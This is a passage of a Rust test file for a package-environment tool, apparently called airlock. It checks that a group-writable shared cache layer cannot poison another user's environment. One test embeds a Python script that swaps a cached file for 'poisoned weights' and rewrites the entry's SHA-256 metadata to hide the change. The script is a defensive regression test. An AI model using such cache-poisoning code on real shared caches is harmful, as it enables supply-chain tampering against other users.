        for path in [entry.join(file), s.prefix("mine").join(file)] {
            let before = file_state(&path);
            let out = Command::new("runuser")
                .args([
                    "-u",
                    "daemon",
                    "--",
                    "sh",
                    "-c",
                    "echo changed >> \"$1\"",
                    "sh",
                ])
                .arg(&path)
                .output()
                .unwrap();
            assert!(
                !out.status.success(),
                "daemon could write {}",
                path.display()
            );
            assert_eq!(file_state(&path), before);
        }
    }
}

/// Issue 22, item 4 with real users and a shared group: a lab's cache layer that its group can
/// write. `airlock-lab-owner`, a member of `airlock-lab`, poisons a file of a cache entry and
/// rewrites the entry's own `info/paths.json` to match; `airlock-lab-user`, another member,
/// then makes an environment with that layer configured. The layer is not trusted (the warning
/// names it and its mode), the package is fetched into the user's own cache, and the
/// environment has the genuine file.
#[test]
fn issue_22_a_layer_the_group_can_write_cannot_poison_another_members_environment() {
    use std::os::unix::fs::PermissionsExt as _;
    if !nix::unistd::geteuid().is_root() {
        eprintln!("skipped: needs root to make two users and a group");
        return;
    }
    let sh = |cmd: &str| {
        let out = Command::new("sh").args(["-c", cmd]).output().unwrap();
        assert!(
            out.status.success(),
            "{cmd}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    };
    // Created once, idempotently (another run may have made them).
    sh("getent group airlock-lab >/dev/null || groupadd airlock-lab || getent group airlock-lab");
    for user in ["airlock-lab-owner", "airlock-lab-user"] {
        sh(&format!(
            "id {user} >/dev/null 2>&1 || useradd -M -s /bin/sh -G airlock-lab {user} || id {user}"
        ));
    }
    let s = Sandbox::new();
    let channel = s.path("channel");
    let data = PackageBuild::new("labdata", "1.0").file(PackageFile::data(
        "share/labdata/model.txt",
        "genuine weights\n",
    ));
    testchannel::build_channel(&channel, &[data]).unwrap();
    let url = url::Url::from_directory_path(&channel).unwrap();
    // The lab's layer: filled once, then owned by the owner and writable by the group.
    s.ok(&["env", "create", "-n", "seed", "-c", url.as_str(), "labdata"]);
    let shared = cache_as_layer(&s, "lab-pkgs");
    std::fs::remove_dir_all(s.prefix("seed")).unwrap();
    sh(&format!(
        "chown -R airlock-lab-owner:airlock-lab {d} && chmod -R g+w {d}",
        d = shared.display()
    ));
    let entry = std::fs::read_dir(&shared)
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| {
            p.is_dir()
                && p.file_name()
                    .unwrap()
                    .to_string_lossy()
                    .starts_with("labdata-1.0-")
        })
        .unwrap();
    // The owner poisons the file and makes the entry's own metadata agree.
    let poison = r#"
import hashlib, json, os, sys
entry = sys.argv[1]
rel = "share/labdata/model.txt"
data = b"poisoned weights\n"
path = os.path.join(entry, rel)
os.unlink(path)
with open(path, "wb") as f:
    f.write(data)
meta = os.path.join(entry, "info", "paths.json")
doc = json.load(open(meta))
for p in doc["paths"]:
    if p["_path"] == rel:
        p["sha256"] = hashlib.sha256(data).hexdigest()
        p["size_in_bytes"] = len(data)
json.dump(doc, open(meta + ".new", "w"))
os.replace(meta + ".new", meta)
"#;
    let out = Command::new("runuser")
        .args(["-u", "airlock-lab-owner", "--", "python3", "-c", poison])
        .arg(&entry)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "the owner could not poison the layer: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    std::fs::set_permissions(s.path(""), std::fs::Permissions::from_mode(0o755)).unwrap();
    for sub in [
        "home", "data", "cache", "config", "state", "work", "channel",
    ] {
        sh(&format!(
            "chown -R airlock-lab-user:airlock-lab-user {}",
            s.path(sub).display()
        ));
    }
    let out = run_as(
        &s,
        "airlock-lab-user",
        &["env", "create", "-n", "mine", "-c", url.as_str(), "labdata"],
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(
        stderr.contains(&shared.display().to_string()),
        "the untrusted layer is not named: {stderr}"
    );
    let got = std::fs::read_to_string(s.prefix("mine").join("share/labdata/model.txt")).unwrap();
    assert_eq!(
        got, "genuine weights\n",
        "a group member poisoned the environment"
    );
}
